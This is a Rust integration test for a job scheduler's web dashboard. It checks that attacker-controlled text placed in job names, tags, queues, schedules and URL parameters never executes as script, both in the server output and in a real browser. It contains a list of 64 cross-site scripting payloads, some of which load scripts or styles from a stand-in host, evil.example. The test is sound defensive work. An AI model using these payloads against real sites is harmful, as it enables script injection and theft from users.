//! Texts that would like to be scripts stay texts, wherever they stand.

use punctual::{Ctx, Definition, Job, JobFilter, Order, Punctual};
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use axum::http::header;
use punctual_server::Server;

use super::{Browser, Site};
use crate::dashboard::{get, post};

/// Tries to become a script in every place that a text can stand in: between elements, in an attribute
/// with any quotes, in an address, in a style, in a comment, in markup of other kinds.
const TEXTS: [&str; 64] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x",
    "</title></svg><script>alert(1)</script>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\" onmouseover=alert(1) x=\"",
    "' onmouseover=alert(1) x='",
    "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='",
    "` onfocus=alert(1) autofocus ",
    "\" style=animation-name:x onanimationstart=alert(1) \"",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<\u{202e}script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
];

#[derive(Serialize, Deserialize, Job)]
struct Hostile {
    text: String,
}

async fn hostile(job: Hostile, cx: Ctx) -> Result<(), punctual::BoxError> {
    cx.log(&job.text);
    cx.log(&format!("\u{1b}[31m{}", job.text));
    Err(punctual::Failure::for_good(format!("{}\n{}", job.text, job.text)).into())
}

/// The questions that take a text from their address.
fn asked(text: &str) -> [String; 7] {
    [
        format!("/operations/schedules/new?action=pause&q={text}&status={text}"),
        format!("/operations/schedules/new?action={text}"),
        format!("/operations/new?action=retry&q=tag:{text}"),
        format!("/upcoming?hour={text}"),
        format!("/timeline?by={text}&window={text}&from={text}"),
        format!("/login?next={text}"),
        format!("/jobs?q=state:failed&cursor={text}"),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn no_text_becomes_a_script() {
    let builder = Punctual::memory()
        .name("\"><script>alert(1)</script>")
        .label("<script>alert(1)</script>", "<svg onload=alert(1)>");
    let punctual = builder.handle(hostile).start().await.unwrap();
    let admin = punctual.admin();
    let mut last = None;
    for text in TEXTS {
        let order =
            Hostile { text: text.to_owned() }.order().tag(text).tag("\"><script>alert(1)</script>");
        let id = punctual.enqueue(order).await.unwrap().id;
        punctual.wait(id).await.ok();
        last = Some(id);
        // A kind and a queue that nobody serves.
        punctual.enqueue(Order::of_kind(text, &json!({ text: text })).queue(text)).await.unwrap();
        let by = punctual.admin().by(text, text);
        let mut definition = Definition::new("0 0 1 1 *", text);
        definition.job.payload = json!({ text: text });
        definition.job.tags = vec![text.to_owned()];
        by.create_schedule(text, &definition).await.unwrap();
        // One that stays planned.
        by.create_schedule(&format!("u {text}"), &definition).await.unwrap();
        by.pause_schedule(text, None).await.unwrap();
        by.pause_queue(text, None).await.unwrap();
        // One that stays open.
        let queue = format!("o {text}");
        punctual.enqueue(Order::of_kind(text, &json!({ text: text })).queue(&queue)).await.unwrap();
    }
    let site = Site::start(&punctual, 0);
    let encoded = |text: &str| text.bytes().map(|byte| format!("%{byte:02X}")).collect::<String>();
    let waiting = admin
        .jobs(
            &JobFilter { state: Some(punctual::JobState::Ready), ..JobFilter::default() },
            None,
            1,
        )
        .await
        .unwrap()
        .items[0]
        .id;
    let mut pages: Vec<String> = [
        "/",
        "/schedules",
        "/jobs",
        "/jobs?q=state:failed",
        "/jobs?q=state:ready",
        "/timeline?by=queue",
        "/timeline?by=node",
        "/queues",
        "/nodes",
        "/activity",
        "/settings",
        "/everything/pause",
        "/everything/resume",
        "/upcoming?hour=2027-01-01T00:00:00Z",
        "/schedules?q=u",
    ]
    .map(str::to_owned)
    .to_vec();
    pages.push(format!("/jobs/{}", last.unwrap()));
    pages.push(format!("/jobs/{waiting}"));
    for text in TEXTS.iter().step_by(16) {
        let text = encoded(text);
        pages.extend([
            format!("/schedules/{text}"),
            format!("/queues/{text}"),
            format!("/jobs?q={text}"),
            format!("/tools/cron?expr={text}&tz={text}"),
            format!("/schedules?q={text}"),
            format!("/?did={text}&window={text}"),
            format!("/queues/{text}/pause"),
        ]);
        pages.extend(asked(&text));
    }
    pages.push(format!("/jobs/{waiting}/cancel"));
    let router = Server::new(punctual.clone()).router();
    let mut operations = Vec::new();
    for text in TEXTS {
        let text = encoded(text);
        let form = format!("action=pause&q={text}&status={text}&why={text}");
        let begun = post(&router, "/operations/schedules", &[], &form).await;
        let place = begun.headers[header::LOCATION].to_str().unwrap().to_owned();
        // Every text on every page that takes one; a browser then looks at some of them.
        for path in asked(&text).iter().chain([&place]) {
            let page = get(&router, path).await.text;
            for other in TEXTS.iter().filter(|other| other.contains('<')) {
                assert!(!page.contains(*other), "{path} says {other}");
            }
        }
        operations.push(place);
    }
    pages.extend(operations.into_iter().step_by(16));
    Browser::run(|browser| {
        let (site, pages) = (&site, &pages);
        async move {
            let mut wrong = Vec::new();
            for page in pages {
                browser.go(&site.url(page)).await;
                let foreign = browser.ask("return [window.__ran, window.__trouble.length, document.querySelectorAll('main :is(script, iframe, object, embed, img, base, meta, style, link, [onerror], [onload], [onfocus], [onmouseover])').length, [...document.querySelectorAll('a[href], form[action]')].filter((it) => new URL(it.getAttribute('href') ?? it.getAttribute('action'), location).origin !== location.origin).length]").await;
                if foreign != json!([0, 0, 0, 0]) {
                    wrong.push(format!("{page}: {foreign} {}", browser.trouble().await));
                }
            }
            assert!(wrong.is_empty(), "{}", wrong.join("\n"));
            assert_ne!(browser.ask("return typeof window.__ran").await, Value::Null, "the watch is there");
        }
    })
    .await;
}
